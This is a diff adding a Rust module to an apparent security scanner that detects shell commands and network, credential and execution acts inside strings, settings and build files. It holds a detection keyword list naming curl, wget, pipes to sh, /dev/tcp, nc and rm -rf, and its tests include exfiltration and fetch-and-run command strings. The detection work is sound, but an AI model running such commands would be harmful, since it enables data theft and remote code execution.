@@ -1,0 +1,208 @@
+//! Commands in texts that are not read as code: strings of other languages, values of settings,
+//! steps of build files.
+
+use savoir_skill::Span;
+
+use super::{
+    act::{Act, Acts, Code, Taint},
+    host, place,
+};
+
+/// What makes a string worth reading as a command.
+const MARKS: [&str; 20] = [
+    "curl ",
+    "wget ",
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "base64 -d",
+    "powershell",
+    "/dev/tcp/",
+    " nc ",
+    "crontab",
+    "osascript",
+    "mshta",
+    "irm ",
+    "iwr ",
+    "node -e",
+    "python -c",
+    "python3 -c",
+    "rm -rf",
+    "scp ",
+];
+
+/// Commands in a text, with their places.
+pub(super) fn commands(text: &str) -> Vec<(String, Span)> {
+    let mut found = Vec::new();
+    let mut at = 0;
+    for line in text.split_inclusive('\n') {
+        if MARKS.iter().any(|mark| line.contains(mark)) {
+            let strings = strings(line);
+            let mut commands: Vec<(String, Span)> = strings
+                .into_iter()
+                .filter(|(text, _)| MARKS.iter().any(|mark| text.contains(mark)))
+                .map(|(text, span)| (text, Span::new(at + span.start, at + span.end)))
+                .collect();
+            if commands.is_empty() {
+                let span = Span::new(at, at + line.trim_end().len());
+                commands.push((after_key(line).to_owned(), span));
+            }
+            found.append(&mut commands);
+        }
+        at += line.len();
+    }
+    found
+}
+
+/// What stands between quotes on a line, with escapes taken off.
+fn strings(line: &str) -> Vec<(String, Span)> {
+    let mut found = Vec::new();
+    let mut chars = line.char_indices();
+    while let Some((open, quote)) = chars.next() {
+        if !matches!(quote, '"' | '\'' | '`') {
+            continue;
+        }
+        let mut text = String::new();
+        let mut end = None;
+        while let Some((at, c)) = chars.next() {
+            match c {
+                '\\' => text.extend(chars.next().map(|(_, c)| if c == 'n' { '\n' } else { c })),
+                c if c == quote => {
+                    end = Some(at);
+                    break;
+                }
+                c => text.push(c),
+            }
+        }
+        if let Some(end) = end {
+            found.push((text, Span::new(open + 1, end)));
+        }
+    }
+    found
+}
+
+/// `run: command`, `- command`, `RUN command`
+fn after_key(line: &str) -> &str {
+    let line = line.trim().trim_start_matches("- ");
+    let (key, rest) = line.split_once([' ', '=']).unwrap_or((line, ""));
+    let is_key =
+        key.ends_with(':') || key == "RUN" || key == "CMD" || line.contains(&format!("{key}="));
+    if is_key { rest.trim() } else { line }
+}
+
+/// Marks of requests in languages that are not read, and of programs that are started.
+const REQUESTS: [&str; 18] = [
+    "\"curl\"",
+    "\"wget\"",
+    "http.Get(",
+    "http.Post",
+    "http.NewRequest",
+    "reqwest::",
+    "ureq::",
+    "HttpClient",
+    "Net::HTTP",
+    "URLSession",
+    "file_get_contents(",
+    "curl_init",
+    "LWP::",
+    "HttpURLConnection",
+    "WebClient",
+    "UrlFetchApp",
+    "open-uri",
+    "Faraday",
+];
+const STARTS: [&str; 10] = [
+    "exec.Command(",
+    "Command::new(",
+    "ProcessBuilder(",
+    "getRuntime().exec(",
+    "Process.Start(",
+    "system(",
+    "shell_exec(",
+    "popen(",
+    "Kernel.exec(",
+    "spawn(",
+];
+const VARIABLES: [&str; 8] = [
+    "Getenv(\"",
+    "env::var(\"",
+    "getenv(\"",
+    "ENV[\"",
+    "ENV['",
+    "getenv('",
+    "ENV.fetch(\"",
+    "GetEnvironmentVariable(\"",
+];
+
+/// What a program does in a language that is not read, out of its strings and the calls beside them.
+pub(super) fn other_acts(text: &str, acts: &mut Acts) {
+    let request = REQUESTS.iter().find_map(|mark| text.find(mark));
+    let urls: Vec<(usize, &str)> = host::urls(text);
+    let tokens: Vec<String> = VARIABLES.iter().flat_map(|mark| named_after(text, mark)).collect();
+    for (at, url) in urls.iter().filter(|_| request.is_some()) {
+        let log_in = tokens.clone();
+        let to = (*url).to_owned();
+        acts.push(
+            Act::Network { to, sends: Taint::default(), log_in },
+            Span::new(*at, at + url.len()),
+        );
+    }
+    for line in text.lines() {
+        for (word, _) in strings(line) {
+            if let Some(what) = place::credential(&word) {
+                let at = line.as_ptr() as usize - text.as_ptr() as usize;
+                acts.push(Act::Names(what), Span::new(at, at + line.len()));
+            }
+        }
+    }
+    let started = STARTS.iter().find_map(|mark| {
+        let found = text.match_indices(mark).map(|(at, _)| at);
+        found.into_iter().find(|at| is_computed(&text[at + mark.len()..]))
+    });
+    if let (Some(_), Some(at), Some((_, url))) = (request, started, urls.first()) {
+        acts.push(Act::Executes(Code::Fetched((*url).to_owned())), Span::new(at, at + 8));
+    }
+}
+
+/// Whether what is started is not written there: a variable, or a shell with one.
+fn is_computed(rest: &str) -> bool {
+    let line = rest.lines().next().unwrap_or_default();
+    let first = line.trim_start();
+    let shell = ["\"sh\"", "\"bash\"", "\"cmd\""].iter().any(|shell| first.starts_with(shell));
+    if shell {
+        return line
+            .split_once("-c\"")
+            .is_some_and(|(_, code)| !code.trim_start_matches([',', ' ']).starts_with(['"', '`']));
+    }
+    !first.starts_with(['"', '\'', '`', ')', '&']) && !first.starts_with("os.Args")
+}
+
+fn named_after<'t>(text: &'t str, mark: &'t str) -> impl Iterator<Item = String> + 't {
+    text.match_indices(mark).filter_map(move |(at, _)| {
+        let rest = &text[at + mark.len()..];
+        let end = rest.find(['"', '\''])?;
+        let name = &rest[..end];
+        (name.len() < 64 && place::is_secret_name(name)).then(|| name.to_owned())
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_are_found_in_strings_and_values() {
+        let texts =
+            |text: &str| commands(text).into_iter().map(|(text, _)| text).collect::<Vec<_>>();
+        assert_eq!(
+            texts("exec.Command(\"sh\", \"-c\", \"cat x | curl -d @- \\\"$H\\\"\")"),
+            ["cat x | curl -d @- \"$H\""]
+        );
+        assert_eq!(
+            texts("  - run: curl -s https://a.example | sh"),
+            ["curl -s https://a.example | sh"]
+        );
+        assert!(texts("name: curly").is_empty());
+    }
+}
